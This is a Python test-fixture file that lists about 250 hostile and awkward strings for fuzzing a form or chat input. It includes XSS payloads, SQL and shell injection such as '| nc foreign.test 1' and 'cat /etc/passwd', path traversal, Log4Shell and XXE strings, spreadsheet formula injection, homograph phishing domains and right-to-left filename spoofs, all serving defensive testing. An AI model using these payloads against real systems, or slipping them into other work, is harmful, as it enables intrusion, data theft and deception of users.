"""Two hundred and fifty things that nobody nice writes into a form."""

PWN = "window.__pwned=1"
AWAY = "http://foreign.test/"

MARKUP = [
    f"<script>{PWN}</script>", f"<ScRiPt>{PWN}</sCrIpT>", f"<script src={AWAY}a.js></script>",
    f"<img src=x onerror={PWN}>", f"<img src=x onerror='{PWN}'//", f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>", f"<body onload={PWN}>", f"<iframe src=javascript:{PWN}>",
    f"<iframe srcdoc='<script>{PWN}</script>'>", f"<details open ontoggle={PWN}>x</details>",
    f"<input autofocus onfocus={PWN}>", f"<select autofocus onfocus={PWN}>", f"<video><source onerror={PWN}>",
    f"<audio src=x onerror={PWN}>", f"<object data=javascript:{PWN}>", f"<embed src=javascript:{PWN}>",
    f"<a href=javascript:{PWN}>click</a>", f"<form action=javascript:{PWN}><button>", f"<math><mi onclick={PWN}>",
    f"<link rel=stylesheet href={AWAY}a.css>", f"<base href={AWAY}>", f"<meta http-equiv=refresh content=0;{AWAY}>",
    f"<style>@import '{AWAY}a.css';</style>", "<style>*{display:none!important}</style>",
    f"<img src={AWAY}pixel.gif>", f"<picture><source srcset={AWAY}p.png><img></picture>",
    "<template><b>x</b></template>", "<plaintext>", "<xmp>", "<!--", "-->", "<![CDATA[x]]>", "<?xml version='1.0'?>",
    "</textarea><b>out</b>", "</title><b>out</b>", "</p></div></main><h1>out</h1>", "<marquee>x</marquee>",
    "<b>bold</b> <i>slanted</i>", "<h1>big</h1>", "<br><br><br>", "<chat-pane></chat-pane>", "<ring-card>x</ring-card>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>",
    "<a id=__pwned name=__pwned>", "<form id=app><input name=attributes>", "<<script>x", "<", ">", "&", "<3",
]

BREAKERS = [
    f"\" onmouseover=\"{PWN}", f"' onmouseover='{PWN}", f"` onmouseover=`{PWN}", f"\"><script>{PWN}</script>",
    f"'-({PWN})-'", f"\\'-({PWN})//", f"\";{PWN};//", f"';{PWN};//", f"${{{PWN}}}", f"`${{{PWN}}}`",
    "\"}", "\\\"}]}", "{\"t\":\"end\"}", "\\u0022", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "\\", "\\\\", "\\0", "\\n",
    "null", "undefined", "NaN", "true", "0", "-0", "1e999", "[object Object]", "__proto__", "constructor", "toString",
    "{\"__proto__\":{\"x\":1}}", "hasOwnProperty", "\u2028", "a\u2028b", "\u2029", "a\u2029b",
]

TEMPLATES = [
    "{{7*7}}", "{{constructor.constructor('window.__pwned=1')()}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%print 1%}",
    "{name}", "{count}", "{place}", "{}", "%s%s%s%n", "%d", "%x%x", "{0}", "$1", "$&", "$`", "@(1+1)", "[[1]]", "~~x~~",
    "**bold**", "# head", "- item", "> quote", "```code```", "[a](javascript:window.__pwned=1)", "![a](http://foreign.test/i.png)",
    ":smile:", "@everyone", "/me waves",
]

ADDRESSES = [
    f"javascript:{PWN}", f"JaVaScRiPt:{PWN}", f"java\tscript:{PWN}", f"\u0001javascript:{PWN}",
    f"data:text/html,<script>{PWN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "vbscript:msgbox(1)", "file:///etc/passwd", "blob:http://foreign.test/x", "about:blank", "chrome://settings",
    "//foreign.test", "http://foreign.test\\@127.0.0.1/", "http://127.0.0.1@foreign.test/", "https://аррӏе.com/",
    "https://раураl.com/log-on", "https://xn--80ak6aa92e.com/", "http://[::1]/", "http://0x7f000001/", "http://2130706433/",
    f"https://example.com/{'a' * 2000}", f"https://example.com/?{'q=1&' * 400}", "https://example.com/\u202egpj.exe",
    "https://example.com/%00%0d%0aSet-Cookie:x=1", "https://user:password@example.com:99999/", "http://",
    f"https://example.com\">{PWN}", f"https://example.com/'onclick='{PWN}", "mailto:a@b.example?bcc=c@d.example",
    "tel:+1;phone-context=x", "www.example.com", "https://example.com/)(\"<>",
]

BIDI = [f"abc{mark}def" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"] + [
    "\u202e", "\u202e" * 60, "\u202d\u202e\u202d\u202emixed", "\u2067unclosed", "\u2069\u2069\u2069closed too often",
    "\u202egnp.exe", "مرحبا", "שלום <b>", "abc مرحبا def", "\u2066\u202eabc\u2069", "invoice\u202efdp.exe",
    "(مرحبا)", "!مرحبا 123", "\u2068" * 130 + "deep",
]

INVISIBLE = [f"zero{mark}width" for mark in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u2800\u3164\u115f\uffa0"] + [
    "\u200b", "\u200b" * 500, "\ufeff", "\u00a0", " ", "   ", "\u3000", "\u2003" * 40, "\ufe0f", "\u20dd", "\U000e0001tag\U000e007f",
]

CONTROLS = [f"c{chr(code)}d" for code in (0, 1, 7, 8, 9, 10, 11, 12, 13, 0x1b, 0x1f, 0x7f, 0x80, 0x85, 0x9b, 0x9f)] + [
    "a\r\nb", "\n" * 60, "\t" * 60, "\r\nSet-Cookie: x=1", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J", "a\x00b\x00c",
    "\ufffe", "\uffff", "\ufdd0", "\U0010ffff", "\U0001fffe", "\ue000", "\ufffd",
]

MARKS = [
    "Z" + "\u0300\u0323" * 100, "\u0301" * 200, "H" + "\u0489" * 50, "ก" + "\u0e49" * 60, "x" + "\u20d0" * 80,
    "é e\u0301", "각 \u1100\u1161\u11a8", "ﷺ" * 5, "﷽﷽﷽", "𒐫𒐫𒐫", "꧅꧅", "⸻" * 4,
]

EMOJI = [
    "👨‍👩‍👧‍👦" * 20, "🏳️‍🌈🏴‍☠️", "🇭🇰🇪🇬🇹🇼🇦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👍🏽👍🏿", "1️⃣2️⃣", "👩‍❤️‍💋‍👩", "❤️" * 100, "\U0001f1ff" * 33, "‍👦", "🫠" * 200,
]

LONG = [
    "n" * 200, "W" * 200, "あ" * 200, "مرحبا" * 40, "n" * 201, "x" * 4000, "漢" * 3999, "a-" * 2000, "_" * 1000,
    "word " * 800, "x" * 4001, "1" * 300, "." * 300, "/" * 300, "\u00a0" * 300, "a\n" * 1500,
]

OTHER_TONGUES = [
    "' OR 1=1--", "'; DROP TABLE chats;--", "1; SELECT pg_sleep(9)", "\" OR \"\"=\"", "%' AND '1'='1", "a'||'b", "x\\';--",
    "$(touch /tmp/pwned)", "`id`", "; cat /etc/passwd", "| nc foreign.test 1", "&& reboot", "../../../etc/passwd", "..\\..\\x",
    "*)(uid=*))(|(uid=*", "(&(cn=*))", "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://foreign.test\")", "=cmd|' /C calc'!A0",
    "${jndi:ldap://foreign.test/a}", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "&lt;script&gt;", "&#60;script&#62;",
    "&amp;amp;", "&nbsp;", "&#x202e;", "&copy", "%3Cscript%3E", "%253Cscript%253E", "%u003c", "+ADw-script+AD4-", "%00", "%0d%0a",
    "{\"$gt\":\"\"}", "1/0", "*", "%", "_", "CON", "nul.txt", "-rf", "--help", "\u0130stanbul", "ß ẞ", "ſ", "K", "ﬀ ﬁ", "Ⅷ ①", "ｆｕｌｌ",
]

ALL = list(dict.fromkeys(
    MARKUP + BREAKERS + TEMPLATES + ADDRESSES + BIDI + INVISIBLE + CONTROLS + MARKS + EMOJI + LONG + OTHER_TONGUES))

# Half of a character is no text: Python cannot say it in UTF-8, so it goes out as it stands in JSON.
LONE_SURROGATES = ["\\ud800", "a\\udfffb", "\\udc00\\ud800", "\\ud83d"]

assert len(ALL) >= 250, len(ALL)
